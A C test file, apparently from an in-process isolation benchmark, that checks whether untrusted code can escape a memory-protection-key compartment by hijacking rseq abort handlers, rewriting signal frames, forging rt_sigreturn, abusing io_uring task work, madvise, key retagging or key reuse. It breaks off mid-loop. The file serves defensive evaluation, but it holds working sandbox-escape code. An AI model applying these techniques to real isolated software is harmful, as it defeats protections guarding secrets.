/* Ways into the MPK window through the kernel's return to user mode, run
 * in the QEMU TCG guest (mpk_init.c).
 *
 * The window runs only trusted text (tests/callgraph), but the kernel may
 * change where a thread resumes, and with which PKRU, whenever it returns
 * to user mode: after a system call, an interrupt, a preemption.  The
 * window's host calls are system calls (pipeio's read(2) blocks on a
 * descriptor the untrusted side chose), and any instruction of it can be
 * preempted, so the untrusted side can make the kernel return into the
 * window at will.  Each check here tries one such way, holding a call in
 * the window on an empty pipe until a helper thread has seen the caller
 * blocked in read(2) (/proc/self/task/TID/syscall):
 *
 *  rseq      glibc registers every thread's restartable-sequence area, in
 *            the thread's own (untrusted) TLS.  The untrusted side points
 *            its rseq_cs at a descriptor whose critical section covers the
 *            window text and whose abort handler, signed with glibc's
 *            RSEQ_SIG, is its own code.  A preemption inside the window
 *            (the blocking read is one) makes the kernel move the thread
 *            to the abort handler on its way back to user mode, without
 *            touching PKRU: untrusted code runs with the key open.  No
 *            blocking call is needed: the compute-only variant preempts a
 *            long WORK entry (the helper thread merely waking up on the
 *            guest's one CPU does it).
 *  altstack  a signal delivered inside the window, to a handler on an
 *            alternate stack in untrusted memory: the kernel saves the
 *            window's registers and its open PKRU in the frame there, the
 *            handler (key closed) points the saved RIP and RSP at its own
 *            code and returns, and rt_sigreturn restores the open PKRU.
 *  onstack   the same signal to a handler without an alternate stack: the
 *            frame goes on the trusted stack, the handler starts there
 *            with the key closed and the process dies (no breach).
 *  sigreturn outside any window: a handler writes 0 (every key open) over
 *            the PKRU saved in its frame, and rt_sigreturn loads it.
 *  io_uring  the kernel as the untrusted side's deputy: an IORING_OP_WRITE
 *            of the secret's address to a full pipe waits, armed on the
 *            pipe's poll; once the helper makes room, the kernel finishes
 *            it as task work of the submitting thread, on that thread's
 *            next way back to user mode, with that thread's PKRU.  Held
 *            in the window, the thread has the key open, and the secret
 *            goes into the pipe.  The control blocks in an untrusted
 *            read(2) instead, key closed: EFAULT.
 *  madvise   no way into the window, but a system call on the key's pages
 *            that needs no change of their protection: MADV_DONTNEED of
 *            the secret's page, from untrusted code with the key closed,
 *            zeroes the secret (the trusted side then finds 0 there).
 *
 * docs/mechanisms.md lists all of them as not defended: the gate cannot
 * stop the kernel from redirecting a thread, short of a system call
 * filter or the kernel's help.  So the checks expect the breach (rseq,
 * altstack, sigreturn), and each has a control that must hold: the same
 * set-up with the critical section elsewhere, a handler that does not
 * redirect, a frame left as it is.  A check whose attack stops working
 * therefore fails, and the documentation with it. */
#include <cpuid.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/mman.h>
#include <sys/rseq.h>
#include <sys/syscall.h>
#include <time.h>
#include <ucontext.h>
#include <unistd.h>

#include "isobench/arch_x86.h"
#include "isobench/work.h"
#include "mpk_vm.h"

#define K_SECRET 0x5ec2e7d00d1e5ea7ull
/* Bytes the held call reads from its pipe. */
#define K_IO 64u
/* How long the helper waits for the caller to block in read(2) (10 ms
 * steps, TCG is slow). */
#define K_WAIT_STEPS 3000
/* The attacker's stack, where a redirected thread lands. */
#define K_STACK 65536

/* The window copy's text (window.c). */
extern const unsigned char isob_window_text[], isob_window_text_end[];

enum k_attack { K_RSEQ, K_RSEQ_CONTROL, K_ALTSTACK, K_ALTSTACK_CONTROL, K_ONSTACK, K_URING,
                K_URING_CONTROL, K_RSEQ_COMPUTE };
/* Iterations of the compute-only rseq attack's WORK entry: seconds under
 * TCG, so that the helper preempts it many times over. */
#define K_WORK_ITERS (1ull << 27)

static const struct isob_mechanism *k_mech;
static volatile uint64_t *k_secret;
static int k_pkey;
static pid_t k_tid;
static struct rseq *k_rseq;
static int k_wfd;
static enum k_attack k_mode;
static struct rseq_cs k_cs;
static volatile int k_handled;
static volatile uint32_t k_frame_pkru;
unsigned char vm_k_stack[K_STACK] __attribute__((aligned(16)));

static void raw_write(const char *s)
{
    long r;
    __asm__ __volatile__("syscall" : "=a"(r) : "a"(SYS_write), "D"(1), "S"(s), "d"(strlen(s))
                         : "rcx", "r11", "memory");
    (void)r;
}

static __attribute__((noreturn)) void raw_exit(int code)
{
    __asm__ __volatile__("syscall" : : "a"(SYS_exit_group), "D"(code) : "rcx", "r11", "memory");
    __builtin_unreachable();
}

/* Where a redirected thread lands, on the attacker's stack: with the key
 * open it reads the secret (a breach); with it closed nothing was won. */
void vm_k_land(void) __attribute__((noreturn, used));
void vm_k_land(void)
{
    uint32_t pkru = isob_rdpkru();
    char line[160];
    if (!(pkru & (3u << (2 * k_pkey)))) {
        uint64_t s = *k_secret;
        snprintf(line, sizeof line, "# BREACH: untrusted code runs with key %d open (PKRU 0x%08x) "
                 "and read the secret 0x%016llx\n", k_pkey, pkru, (unsigned long long)s);
        raw_write(line);
        raw_exit(s == K_SECRET ? VM_EXIT_BREACH : 1);
    }
    snprintf(line, sizeof line, "# held: redirected, but PKRU 0x%08x keeps key %d closed\n", pkru,
             k_pkey);
    raw_write(line);
    raw_exit(0);
}

/* The rseq abort handler: glibc's signature, then a switch to the
 * attacker's stack and vm_k_land. */
__asm__(".text\n"
        ".p2align 4\n"
        ".long 0x53053053\n" /* RSEQ_SIG on x86 (bits/rseq.h), checked below */
        "vm_k_rseq_abort:\n"
        "    leaq vm_k_stack+65536-8(%rip), %rsp\n"
        "    jmp vm_k_land\n");
void vm_k_rseq_abort(void);
_Static_assert(RSEQ_SIG == 0x53053053, "glibc's x86 RSEQ_SIG changed: update vm_k_rseq_abort");
_Static_assert(K_STACK == 65536, "vm_k_rseq_abort assumes a 64 KiB stack");

/* Code that never runs: the control's critical section. */
static void k_elsewhere(void) __attribute__((noinline, used));
static void k_elsewhere(void)
{
    __asm__ __volatile__("nop; nop; nop; nop");
}

/* PKRU's place in the standard-format XSAVE area of a signal frame; 0 when
 * the frame has no extended state or no PKRU. */
static uint32_t *frame_pkru(ucontext_t *uc)
{
    unsigned char *fx = (unsigned char *)uc->uc_mcontext.fpregs;
    uint32_t magic1, eax, ebx, ecx, edx;
    if (!fx)
        return NULL;
    memcpy(&magic1, fx + 464, sizeof magic1);  /* _fpx_sw_bytes.magic1 */
    if (magic1 != 0x46505853u)                 /* FP_XSTATE_MAGIC1 */
        return NULL;
    if (!__get_cpuid_count(0xd, 9, &eax, &ebx, &ecx, &edx) || eax < 4 || ebx < 576)
        return NULL;
    uint64_t *xstate_bv = (uint64_t *)(void *)(fx + 512);
    *xstate_bv |= 1ull << 9;  /* the PKRU component present, so restored */
    return (uint32_t *)(void *)(fx + ebx);
}

static void k_handler(int sig, siginfo_t *si, void *ctx)
{
    (void)sig;
    (void)si;
    ucontext_t *uc = ctx;
    uint32_t *pk = frame_pkru(uc);
    k_frame_pkru = pk ? *pk : 0xffffffffu;
    k_handled++;
    if (k_mode == K_ALTSTACK && pk && !(*pk & (3u << (2 * k_pkey)))) {
        /* Interrupted inside the window: resume in the attacker's code,
         * with the PKRU the frame already holds. */
        uc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)vm_k_land;
        uc->uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)(vm_k_stack + K_STACK - 8);
    }
}

/* The io_uring attack's ring and pipe. */
static struct {
    int ring, rfd, wfd;            /* the ring, the full pipe's ends */
    volatile unsigned *cq_head, *cq_tail;
    unsigned cq_mask;
    struct io_uring_cqe *cqes;
} k_ur;

/* Set up a ring and queue a write of the secret's 8 bytes to a pipe that
 * is full (whole pages, so that nothing merges into its last buffer and
 * no byte is copied before there is room). */
static void k_uring_submit(const volatile uint64_t *secret)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    k_ur.ring = (int)syscall(SYS_io_uring_setup, 4, &p);
    if (k_ur.ring < 0)
        vm_skip("io_uring_setup: %s", strerror(errno));
    size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    if (p.features & IORING_FEAT_SINGLE_MMAP)
        sq_sz = cq_sz = sq_sz > cq_sz ? sq_sz : cq_sz;
    unsigned char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                             k_ur.ring, IORING_OFF_SQ_RING);
    unsigned char *cq = (p.features & IORING_FEAT_SINGLE_MMAP)
                            ? sq
                            : mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                                   k_ur.ring, IORING_OFF_CQ_RING);
    struct io_uring_sqe *sqes = mmap(NULL, p.sq_entries * sizeof *sqes, PROT_READ | PROT_WRITE,
                                     MAP_SHARED | MAP_POPULATE, k_ur.ring, IORING_OFF_SQES);
    VM_EXPECT(sq != MAP_FAILED && cq != MAP_FAILED && sqes != MAP_FAILED);
    k_ur.cq_head = (volatile unsigned *)(void *)(cq + p.cq_off.head);
    k_ur.cq_tail = (volatile unsigned *)(void *)(cq + p.cq_off.tail);
    k_ur.cq_mask = *(unsigned *)(void *)(cq + p.cq_off.ring_mask);
    k_ur.cqes = (struct io_uring_cqe *)(void *)(cq + p.cq_off.cqes);

    int pfd[2];
    VM_EXPECT(pipe(pfd) == 0);
    k_ur.rfd = pfd[0];
    k_ur.wfd = pfd[1];
    static unsigned char page[4096];
    VM_EXPECT(fcntl(k_ur.wfd, F_SETFL, O_NONBLOCK) == 0);
    while (write(k_ur.wfd, page, sizeof page) == (ssize_t)sizeof page)
        ;
    VM_EXPECT(errno == EAGAIN);
    VM_EXPECT(fcntl(k_ur.wfd, F_SETFL, 0) == 0);

    struct io_uring_sqe *e = &sqes[0];
    memset(e, 0, sizeof *e);
    e->opcode = IORING_OP_WRITE;
    e->fd = k_ur.wfd;
    e->addr = (uint64_t)(uintptr_t)secret;
    e->len = sizeof(uint64_t);
    e->off = (uint64_t)-1;
    e->user_data = 1;
    unsigned *array = (unsigned *)(void *)(sq + p.sq_off.array);
    unsigned *tail = (unsigned *)(void *)(sq + p.sq_off.tail);
    array[*tail & *(unsigned *)(void *)(sq + p.sq_off.ring_mask)] = 0;
    __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
    VM_EXPECT(syscall(SYS_io_uring_enter, k_ur.ring, 1, 0, 0, NULL, 0) == 1);
    VM_EXPECT(*k_ur.cq_head == __atomic_load_n(k_ur.cq_tail, __ATOMIC_ACQUIRE));
}

/* The helper's half: make room in the pipe, wait for the write's result,
 * and look for the secret in what the pipe holds. */
static void k_uring_finish(void)
{
    static unsigned char page[4096];
    VM_EXPECT(read(k_ur.rfd, page, sizeof page) == (ssize_t)sizeof page);
    struct timespec step = {0, 10 * 1000 * 1000};
    for (int i = 0; i < K_WAIT_STEPS &&
                    *k_ur.cq_head == __atomic_load_n(k_ur.cq_tail, __ATOMIC_ACQUIRE); i++)
        nanosleep(&step, NULL);
    if (*k_ur.cq_head == __atomic_load_n(k_ur.cq_tail, __ATOMIC_ACQUIRE)) {
        raw_write("# the queued write never completed\n");
        raw_exit(1);
    }
    int res = k_ur.cqes[*k_ur.cq_head & k_ur.cq_mask].res;
    char line[160];
    snprintf(line, sizeof line, "# the queued write of the secret's address completed: %d (%s)\n",
             res, res < 0 ? strerror(-res) : "written");
    raw_write(line);
    if (res == (int)sizeof(uint64_t)) {
        VM_EXPECT(fcntl(k_ur.rfd, F_SETFL, O_NONBLOCK) == 0);
        uint64_t last = 0;
        ssize_t n;
        while ((n = read(k_ur.rfd, page, sizeof page)) > 0)
            if (n >= (ssize_t)sizeof last)
                memcpy(&last, page + n - sizeof last, sizeof last);
        snprintf(line, sizeof line, "# BREACH: the kernel, as the thread's task work, wrote the "
                 "secret 0x%016llx into the attacker's pipe\n", (unsigned long long)last);
        raw_write(line);
        raw_exit(last == K_SECRET ? VM_EXIT_BREACH : 1);
    }
    if (res != -EFAULT)
        raw_exit(1);
}

/* The caller's system call, as /proc shows it: its number, or -1 while it
 * runs or the file cannot be read. */
static long k_syscall_of(pid_t tid)
{
    char path[64], buf[64] = "";
    snprintf(path, sizeof path, "/proc/self/task/%d/syscall", (int)tid);
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return -1;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0 || buf[0] < '0' || buf[0] > '9')
        return -1;
    return strtol(buf, NULL, 10);
}

static void *k_helper(void *arg)
{
    (void)arg;
    struct timespec step = {0, 10 * 1000 * 1000};
    int i = 0;
    if (k_mode == K_RSEQ_COMPUTE) {
        /* The caller computes inside the window: wake up now and then,
         * which preempts it, and keep its rseq_cs pointed at the window
         * (the kernel clears it after a preemption outside). */
        for (; i < K_WAIT_STEPS; i++) {
            __atomic_store_n(&k_rseq->rseq_cs, (uint64_t)(uintptr_t)&k_cs, __ATOMIC_SEQ_CST);
            nanosleep(&step, NULL);
        }
        return NULL;
    }
    while (k_syscall_of(k_tid) != SYS_read && i++ < K_WAIT_STEPS)
        nanosleep(&step, NULL);
    if (i >= K_WAIT_STEPS) {
        raw_write("# the caller never blocked in read(2) inside the window\n");
        raw_exit(1);
    }
    switch (k_mode) {
    case K_URING:
    case K_URING_CONTROL:
        k_uring_finish();
        break;
    case K_RSEQ:
    case K_RSEQ_CONTROL:
        /* Any thread may write the caller's rseq area: it is ordinary
         * memory.  (The kernel cleared it if the caller was preempted on
         * its way into the window.) */
        __atomic_store_n(&k_rseq->rseq_cs, (uint64_t)(uintptr_t)&k_cs, __ATOMIC_SEQ_CST);
        break;
    default:
        syscall(SYS_tgkill, getpid(), k_tid, SIGUSR1);
        while (!k_handled && i++ < K_WAIT_STEPS)
            nanosleep(&step, NULL);
        break;
    }
    static unsigned char data[K_IO];
    for (unsigned j = 0; j < K_IO; j++)
        data[j] = (unsigned char)(j * 7 + 1);
    if (write(k_wfd, data, K_IO) != (ssize_t)K_IO)
        raw_exit(1);
    return NULL;
}

static void c_kernel(void *arg)
{
    k_mode = (enum k_attack)(intptr_t)arg;
    struct isob_comp *c = vm_make(k_mech);
    struct isob_mpk_view v;
    vm_view(c, &v);
    struct isob_msg *msg = k_mech->shared(c);
    msg->arg[0] = (int64_t)K_SECRET;
    VM_EXPECT(isob_call(c, ISOB_ENTRY_SECRET_PLANT) == 0);
    k_secret = (volatile uint64_t *)(uintptr_t)msg->arg[1];
    k_pkey = v.pkey;
    k_tid = (pid_t)syscall(SYS_gettid);

    if (k_mode == K_RSEQ || k_mode == K_RSEQ_CONTROL || k_mode == K_RSEQ_COMPUTE) {
        if (__rseq_size == 0)
            vm_skip("glibc registered no rseq area for this thread");
        char *tp;
        __asm__("movq %%fs:0, %0" : "=r"(tp));
        k_rseq = (struct rseq *)(void *)(tp + __rseq_offset);
        int over = k_mode != K_RSEQ_CONTROL;
        uintptr_t lo = over ? (uintptr_t)isob_window_text : (uintptr_t)k_elsewhere;
        uintptr_t len = over ? (uintptr_t)(isob_window_text_end - isob_window_text) : 4;
        k_cs = (struct rseq_cs){.version = 0, .flags = 0, .start_ip = lo,
                                .post_commit_offset = len,
                                .abort_ip = (uintptr_t)vm_k_rseq_abort};
        k_rseq->rseq_cs = (uint64_t)(uintptr_t)&k_cs;
    } else if (k_mode == K_URING || k_mode == K_URING_CONTROL) {
        k_uring_submit(k_secret);
    } else {
        if (k_mode != K_ONSTACK) {
            static unsigned char alt[K_STACK];
            stack_t ss = {.ss_sp = alt, .ss_size = sizeof alt, .ss_flags = 0};
            VM_EXPECT(sigaltstack(&ss, NULL) == 0);
        }
        struct sigaction sa;
        memset(&sa, 0, sizeof sa);
        sa.sa_sigaction = k_handler;
        sa.sa_flags = SA_SIGINFO | (k_mode == K_ONSTACK ? 0 : SA_ONSTACK);
        VM_EXPECT(sigaction(SIGUSR1, &sa, NULL) == 0);
    }

    int pfd[2];
    VM_EXPECT(pipe(pfd) == 0);
    k_wfd = pfd[1];
    pthread_t th;
    VM_EXPECT(pthread_create(&th, NULL, k_helper, NULL) == 0);
    /* The call: read K_IO bytes from the empty pipe, inside the window;
     * the control reads them itself, outside. */
    long ret;
    if (k_mode == K_RSEQ_COMPUTE) {
        msg->arg[0] = (int64_t)K_WORK_ITERS;
        msg->arg[1] = 1;
        ret = isob_call(c, ISOB_ENTRY_WORK);
        printf("# WORK ran to its end, %llu iterations, never moved\n",
               (unsigned long long)K_WORK_ITERS);
        ret = K_IO;  /* the check below is the read's */
    } else if (k_mode == K_URING_CONTROL) {
        static unsigned char got[K_IO];
        ret = read(pfd[0], got, K_IO);
    } else {
        msg->arg[0] = pfd[0];
        msg->arg[1] = K_IO;
        ret = isob_call(c, ISOB_ENTRY_IO_READ);
    }
    uint32_t pkru = isob_rdpkru();
    pthread_join(th, NULL);
    if (k_rseq)
        k_rseq->rseq_cs = 0;
    if (k_handled)
        printf("# the signal's frame held PKRU 0x%08x (key %d %s)\n", k_frame_pkru, k_pkey,
               k_frame_pkru & (3u << (2 * k_pkey)) ? "closed" : "open: inside the window");
    printf("# the call returned %ld with PKRU 0x%08x\n", ret, pkru);
    if (!(pkru & (1u << (2 * k_pkey))))
        vm_breach("back from the call with key %d open", k_pkey);
    VM_EXPECT(ret == (long)K_IO);
    if (k_mode == K_ALTSTACK_CONTROL)
        VM_EXPECT(k_handled == 1 && !(k_frame_pkru & (3u << (2 * k_pkey))));
    isob_comp_destroy(c);
}

/* Outside any window: the handler opens every key in its frame's PKRU
 * (k_rewrite 1), or leaves the frame and keeps a copy of it, from its
 * ucontext to the end of its XSAVE area, for a forged rt_sigreturn later
 * with no signal at all (2: PKRU 0 in the copy; 3: as it was). */
static volatile int k_rewrite;
#define K_FRAME_MAX (64u * 1024u)
static unsigned char k_frame_copy[K_FRAME_MAX + 64] __attribute__((aligned(64)));
static unsigned char *k_frame_uc;       /* the copy's ucontext */
static unsigned char k_land_stack[64 * 1024] __attribute__((aligned(16)));
static volatile uint64_t *k_land_secret;

static void k_rewrite_handler(int sig, siginfo_t *si, void *ctx)
{
    (void)sig;
    (void)si;
    uint32_t *pk = frame_pkru(ctx);
    k_frame_pkru = pk ? *pk : 0xffffffffu;
    if (pk && k_rewrite == 1)
        *pk = 0;
    ucontext_t *uc = ctx;
    unsigned char *fx = (unsigned char *)uc->uc_mcontext.fpregs;
    if (k_rewrite < 2 || !fx || fx < (unsigned char *)ctx)
        return;
    uint32_t ext;
    memcpy(&ext, fx + 468, sizeof ext);  /* _fpx_sw_bytes.extended_size */
    size_t len = (size_t)(fx - (unsigned char *)ctx) + ext;
    if (len > K_FRAME_MAX)
        return;
    /* The same offset from a 64-byte boundary, so that the copy's XSAVE
     * area stays aligned as XRSTOR needs. */
    k_frame_uc = k_frame_copy + ((uintptr_t)ctx & 63);
    memcpy(k_frame_uc, ctx, len);
    ((ucontext_t *)(void *)k_frame_uc)->uc_mcontext.fpregs =
        (void *)(k_frame_uc + (fx - (unsigned char *)ctx));
}

/* Where the forged rt_sigreturn resumes: a load of the secret with the
 * PKRU the copy held. */
static void k_forged_land(void)
{
    uint32_t pkru = isob_rdpkru();
    printf("# resumed by rt_sigreturn of the forged frame with PKRU 0x%08x\n", pkru);
    uint64_t s = *k_land_secret;  /* faults (SEGV_PKUERR) while the key is closed */
    if (s == K_SECRET)
        vm_breach("read the secret 0x%016llx after a forged rt_sigreturn, no signal, loaded "
                  "PKRU 0x%08x", (unsigned long long)s, pkru);
    vm_fail(__LINE__, "read 0x%016llx, not the secret", (unsigned long long)s);
}

static void c_sigreturn(void *arg)
{
    k_rewrite = (int)(intptr_t)arg;
    struct isob_comp *c = vm_make(k_mech);
    struct isob_mpk_view v;
    vm_view(c, &v);
    struct isob_msg *msg = k_mech->shared(c);
    msg->arg[0] = (int64_t)K_SECRET;
    VM_EXPECT(isob_call(c, ISOB_ENTRY_SECRET_PLANT) == 0);
    volatile uint64_t *secret = (volatile uint64_t *)(uintptr_t)msg->arg[1];
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = k_rewrite_handler;
    sa.sa_flags = SA_SIGINFO;
    VM_EXPECT(sigaction(SIGUSR1, &sa, NULL) == 0);
    VM_EXPECT(isob_rdpkru() == MPK_PKRU_CLOSED);
    raise(SIGUSR1);
    if (k_rewrite >= 2) {
        /* The handler has returned; no signal is pending.  The untrusted
         * side edits its copy of the frame (PKRU, RIP, RSP) and enters
         * rt_sigreturn itself, with RSP at the copy's ucontext. */
        if (!k_frame_uc)
            vm_fail(__LINE__, "the handler kept no copy of its frame");
        ucontext_t *fuc = (ucontext_t *)(void *)k_frame_uc;
        uint32_t *pk = frame_pkru(fuc);
        if (!pk)
            vm_fail(__LINE__, "the frame copy has no PKRU");
        if (k_rewrite == 2)
            *pk = 0;
        k_land_secret = secret;
        fuc->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)k_forged_land;
        fuc->uc_mcontext.gregs[REG_RSP] = (greg_t)(uintptr_t)(k_land_stack + sizeof k_land_stack - 8);
        printf("# PKRU 0x%08x; rt_sigreturn of a forged frame whose PKRU is 0x%08x\n", isob_rdpkru(),
               *pk);
        fflush(stdout);
        __asm__ volatile("movq %0, %%rsp\n\tmovl $15, %%eax\n\tsyscall\n\tud2" : : "r"(k_frame_uc) : "memory");
    }
    uint32_t pkru = isob_rdpkru();
    printf("# the frame held PKRU 0x%08x; after rt_sigreturn PKRU is 0x%08x\n", k_frame_pkru,
           pkru);
    uint64_t s = *secret;  /* faults (SEGV_PKUERR) while key k is closed */
    if (s == K_SECRET)
        vm_breach("read the secret 0x%016llx after rt_sigreturn loaded PKRU 0x%08x",
                  (unsigned long long)s, pkru);
    vm_fail(__LINE__, "read 0x%016llx, not the secret", (unsigned long long)s);
}

/* The secret's page discarded from outside: the trusted memory changes. */
static void c_madvise(void *arg)
{
    int discard = (int)(intptr_t)arg;
    struct isob_comp *c = vm_make(k_mech);
    struct isob_msg *msg = k_mech->shared(c);
    msg->arg[0] = (int64_t)K_SECRET;
    VM_EXPECT(isob_call(c, ISOB_ENTRY_SECRET_PLANT) == 0);
    uintptr_t page = (uintptr_t)msg->arg[1] & ~(uintptr_t)4095;
    if (discard) {
        int r = madvise((void *)page, 4096, MADV_DONTNEED);
        printf("# madvise(secret's page, MADV_DONTNEED) with the key closed: %s\n",
               r == 0 ? "0" : strerror(errno));
    }
    msg->arg[0] = 0;
    long zero = isob_call(c, ISOB_ENTRY_SECRET_CHECK);
    msg->arg[0] = (int64_t)K_SECRET;
    long same = isob_call(c, ISOB_ENTRY_SECRET_CHECK);
    printf("# the trusted side finds the secret %s\n",
           same == 1 ? "intact" : zero == 1 ? "zeroed" : "changed");
    if (same != 1)
        vm_breach("the untrusted side changed the secret in the key's memory");
    isob_comp_destroy(c);
}

/* System calls that undo the key, from untrusted code with the key closed
 * (the PKU Pitfalls study, Connor et al., USENIX Security 2020; ERIM
 * filters such calls, isobench does not):
 *   retag  pkey_mprotect of the secret's page to key 0, which every thread
 *          may access: a load then reads the secret.  Control: the same
 *          load without it faults (SEGV_PKUERR).
 *   reuse  a second thread allocates a key (pkey_alloc(0, 0) opens it in
 *          that thread) and frees it: its PKRU keeps the key open.  The
 *          next compartment gets the same key (the kernel hands out the
 *          lowest free one), and the thread reads its secret.  Control: a
 *          thread that allocated nothing faults (SEGV_PKUERR). */
static volatile int reuse_key = -1;
static volatile int reuse_stage;
static volatile uint64_t *volatile reuse_secret;

static void *reuse_thread(void *arg)
{
    if ((intptr_t)arg) {
        int k = pkey_alloc(0, 0);
        if (k < 0)
            vm_fail(__LINE__, "pkey_alloc: %s", strerror(errno));
        VM_EXPECT(pkey_free(k) == 0);
        reuse_key = k;
        printf("# a second thread allocated key %d and freed it: its PKRU 0x%08x keeps it open\n", k,
               isob_rdpkru());
    }
    __atomic_store_n(&reuse_stage, 1, __ATOMIC_RELEASE);
    while (__atomic_load_n(&reuse_stage, __ATOMIC_ACQUIRE) != 2)
        sched_yield();
    uint64_t s = *reuse_secret;
    if (s == K_SECRET)
        vm_breach("the second thread, PKRU 0x%08x, read the secret 0x%016llx of the compartment "
                  "created after it freed its key", isob_rdpkru(), (unsigned long long)s);
    vm_fail(__LINE__, "the second thread read 0x%016llx, not the secret", (unsigned long long)s);
}

/* The controls' fault: SEGV_PKUERR ends the child with VM_EXIT_PKUERR. */
static void undo_on_segv(int sig, siginfo_t *si, void *uc)
{
    (void)uc;
    if (si->si_code == SEGV_PKUERR) {
        dprintf(1, "# fault: SIGSEGV SEGV_PKUERR at %p, key %u\n", si->si_addr, (unsigned)si->si_pkey);
        _exit(VM_EXIT_PKUERR);
    }
    signal(sig, SIG_DFL);
}

static void c_syscall_undo(void *arg)
{
    int mode = (int)(intptr_t)arg; /* 0, 1: retag control, attack; 2, 3: reuse control, attack */
    struct sigaction sa;
    memset(&sa, 0, sizeof sa);
    sa.sa_sigaction = undo_on_segv;
    sa.sa_flags = SA_SIGINFO;
    sigaction(SIGSEGV, &sa, NULL);
    pthread_t th;
    if (mode >= 2) {
        VM_EXPECT(pthread_create(&th, NULL, reuse_thread, (void *)(intptr_t)(mode == 3)) == 0);
        while (!__atomic_load_n(&reuse_stage, __ATOMIC_ACQUIRE))
            sched_yield();
    }
    struct isob_comp *c = vm_make(k_mech);
    struct isob_mpk_view v;
    vm_view(c, &v);
    struct isob_msg *msg = k_mech->shared(c);
    msg->arg[0] = (int64_t)K_SECRET;
    VM_EXPECT(isob_call(c, ISOB_ENTRY_SECRET_PLANT) == 0);
    volatile uint64_t *secret = (volatile uint64_t *)(uintptr_t)msg->arg[1];
    if (mode >= 2) {
        if (mode == 3)
            VM_EXPECT(v.pkey == reuse_key);
        reuse_secret = secret;
        __atomic_store_n(&reuse_stage, 2, __ATOMIC_RELEASE);
        pthread_join(th, NULL);
        vm_fail(__LINE__, "the second thread came back");
    }
    if (mode == 1) {
        uintptr_t page = (uintptr_t)secret & ~(uintptr_t)4095;
        int r = pkey_mprotect((void *)page, 4096, PROT_READ | PROT_WRITE, 0);
        printf("# pkey_mprotect(secret's page, key 0) with key %d closed: %s\n", v.pkey,
               r == 0 ? "0" : strerror(errno));
    }
    uint64_t s = *secret;
    if (s == K_SECRET)
        vm_breach("read the secret 0x%016llx with PKRU 0x%08x", (unsigned long long)s, isob_rdpkru());
    vm_fail(__LINE__, "read 0x%016llx, not the secret", (unsigned long long)s);
}

/* A system call of the window answered without running: a seccomp filter
 * of the untrusted side's makes getrusage return 0 and write nothing, so
 * whatever the window's buffer held must not come back as a result. */
static void c_fake_getrusage(void *arg)
{
    (void)arg;
    struct isob_comp *c = vm_make(k_mech);
    struct isob_mpk_view v;
    vm_view(c, &v);
    struct isob_msg *msg = k_mech->shared(c);
    msg->arg[0] = (int64_t)K_SECRET;
    VM_EXPECT(isob_call(c, ISOB_ENTRY_SECRET_PLANT) == 0);
    /* An entry whose frame leaves a word of its own on the trusted stack
     * where the window's getrusage buffer will be (KV_TOUCH, under this
     * build: a value the caller never gave). */
    memset(msg, 0, sizeof *msg);
    msg->arg[0] = 5;
    msg->arg[1] = 7;
    msg->len = 16;
    (void)isob_call(c, ISOB_ENTRY_KV_TOUCH);
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getrusage, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof f / sizeof f[0], f};
    VM_EXPECT(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0);
    VM_EXPECT(prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog) == 0);
    memset(msg, 0, sizeof *msg);
    long ret = isob_call(c, ISOB_ENTRY_HOST_FAULTS);
    uint64_t got = (uint64_t)msg->arg[1];
    const char *what = got == K_SECRET ? "the secret"
                       : (uintptr_t)got >= (uintptr_t)v.stack_lo && (uintptr_t)got < (uintptr_t)v.stack_hi
                           ? "an address on the trusted stack"
                       : got - (uint64_t)(uintptr_t)v.table < (64u << 20) ? "an address in the trusted heap"
                                                                          : "a stale word of it";
    printf("# getrusage answered 0 by a filter, nothing written: the entry returned %ld%s\n", ret,
           ret < 0 ? ", and no count" : "");
    if (ret >= 0)
        vm_breach("the window returned 0x%016llx, %s, from its uninitialised buffer on the "
                  "trusted stack", (unsigned long long)got, what);
    isob_comp_destroy(c);
}

void vm_kernel_attacks(const struct isob_mechanism *m)
{
    k_mech = m;
    static const struct {
        const char *what;
        enum k_attack mode;
        enum vm_expect want;
    } win[] = {
        {"not defended: rseq abort handler over the window text, call held in read(2) "
         "(must breach)", K_RSEQ, VM_BREACH},
        {"control: rseq critical section elsewhere, call held in read(2) (must hold)",
         K_RSEQ_CONTROL, VM_PASS},
        {"not defended: rseq abort handler over the window text, a long WORK entry preempted, "
         "no system call (must breach)", K_RSEQ_COMPUTE, VM_BREACH},
        {"not defended: signal inside the window, handler on an alternate stack redirects "
         "the frame (must breach)", K_ALTSTACK, VM_BREACH},
        {"control: signal inside the window, handler on an alternate stack returns "
         "(must hold)", K_ALTSTACK_CONTROL, VM_PASS},
        {"signal inside the window, handler on the trusted stack (dies)", K_ONSTACK, VM_HELD},
        {"not defended: io_uring write of the secret's address to a full pipe, finished as task "
         "work while the call is held in read(2) (must breach)", K_URING, VM_BREACH},
        {"control: the same io_uring write, finished while the thread blocks in its own read(2) "
         "(EFAULT, must hold)", K_URING_CONTROL, VM_PASS},
    };
    for (size_t i = 0; i < sizeof win / sizeof win[0]; i++)
